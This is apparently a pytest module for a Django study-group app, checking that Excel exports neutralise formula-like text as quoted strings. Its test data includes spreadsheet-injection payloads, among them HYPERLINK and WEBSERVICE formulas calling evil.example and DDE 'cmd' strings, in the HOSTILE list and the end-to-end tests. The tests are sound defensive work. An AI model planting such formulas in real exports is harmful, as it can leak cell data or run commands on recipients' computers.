"""Excel exports never write what people typed as a formula: text beginning with =, +, -, @, a
tab or a carriage return is a text cell (with Excel's quote prefix), numbers stay numbers. Every
workbook the application writes goes through ``studygroup.documents``."""

import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from studygroup.documents import new_workbook, workbook_bytes, xlsx_response

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_text_not_formula(cells, values):
    found = {cell.value: cell for cell in cells if cell.value in values}
    assert set(found) == set(values), set(values) - set(found)
    for value, cell in found.items():
        assert cell.data_type == "s", (value, cell.data_type)
        assert cell.quotePrefix, value


def test_text_that_begins_like_a_formula_is_written_as_text():
    workbook, sheet = new_workbook("=标题", ["姓名", "备注"])
    for value in HOSTILE:
        sheet.append([value, "正常文字"])
    cells = _cells(workbook_bytes(workbook))
    _assert_text_not_formula(cells, HOSTILE + ["=标题"])
    plain = next(cell for cell in cells if cell.value == "正常文字")
    assert plain.data_type == "s"
    assert not plain.quotePrefix


def test_numbers_and_dates_stay_numbers():
    workbook, sheet = new_workbook("统计", ["数", "负数", "小数", "日期"])
    sheet.append([12, -3, 0.5, timezone.localdate()])
    data = workbook_bytes(workbook)
    row = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=3, values_only=True))[0]
    assert row[:3] == (12, -3, 0.5)
    cells = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=3))[0]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "d"]


def test_an_xlsx_response_is_neutralised_too():
    workbook, sheet = new_workbook("签到表", ["姓名"])
    sheet.append(["=1+1"])
    _assert_text_not_formula(_cells(xlsx_response(workbook, "x.xlsx").content), ["=1+1"])


def test_every_openpyxl_writer_goes_through_the_documents_module():
    """Only studygroup/documents.py creates or saves a workbook; exports build on its helpers."""
    base = Path(settings.BASE_DIR)
    offenders = []
    for path in base.glob("*/**/*.py"):
        if ".venv" in path.parts or "tests" in path.parts or path.name == "documents.py" and path.parent.name == "studygroup":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(|from openpyxl import Workbook|openpyxl\.Workbook|\.save\(\s*(buffer|stream|io)", text):
            offenders.append(str(path.relative_to(base)))
    assert not offenders, offenders


# --- the exports, end to end ------------------------------------------------------------------


@pytest.mark.django_db
def test_the_sign_in_sheet_writes_hostile_names_as_text(world, client):
    from sessions.tests.factories import MeetingFactory

    world.member.name = "=HYPERLINK(\"http://evil.example\",\"x\")"
    world.member.position = "+cmd|' /C calc'!A0"
    world.member.save()
    meeting = MeetingFactory(group=world.groups.bureau, title="@SUM(1)", venue="-会议室")
    client.force_login(world.staff)
    response = client.get(reverse("meetings:meeting-sign-in-sheet-xlsx", args=[meeting.pk]))
    assert response.status_code == 200
    cells = _cells(response.content)
    _assert_text_not_formula(cells, [world.member.name, world.member.position])
    title = next(cell for cell in cells if "@SUM(1)" in str(cell.value))
    assert title.data_type == "s"


@pytest.mark.django_db
def test_the_plan_schedule_writes_hostile_titles_as_text(world, client):
    from plans.models import AnnualPlan
    from plans.tests.factories import plan_with_topics

    plan = plan_with_topics(world.groups.bureau, status=AnnualPlan.Status.PUBLISHED, n=2, months=(3,))
    plan.topics.filter(pk=plan.topics.first().pk).update(title="=1+2", description="\t=cmd")
    client.force_login(world.staff)
    response = client.get(reverse("plans:schedule-xlsx", kwargs={"pk": plan.pk}))
    assert response.status_code == 200
    _assert_text_not_formula(_cells(response.content), ["=1+2", "\t=cmd"])


@pytest.mark.django_db
def test_the_work_list_writes_hostile_titles_as_text_and_counts_as_numbers(world, client):
    from members.work import services
    from members.work.models import WorkKind
    from members.work.tests.factories import REFLECTION_TEXT, WorkMeetingFactory

    meeting = WorkMeetingFactory(group=world.groups.bureau)
    work = services.work_create(
        by=world.member, kind=WorkKind.REFLECTION, group=world.groups.bureau,
        title="=WEBSERVICE(\"http://evil.example\")", body=REFLECTION_TEXT, meeting=meeting,
    )
    work = services.work_submit(work=work, by=world.member)
    services.work_accept(work=work, by=world.staff)
    client.force_login(world.staff)
    year = timezone.localdate().year
    response = client.get(reverse("work:work-export", args=[world.groups.bureau.pk, year, "xlsx"]))
    assert response.status_code == 200
    cells = _cells(response.content)
    _assert_text_not_formula(cells, ["=WEBSERVICE(\"http://evil.example\")"])
    words = next(cell for cell in cells if cell.column == 11 and cell.row > 2)  # the word count
    assert words.data_type == "n"
    assert words.value == work.word_count
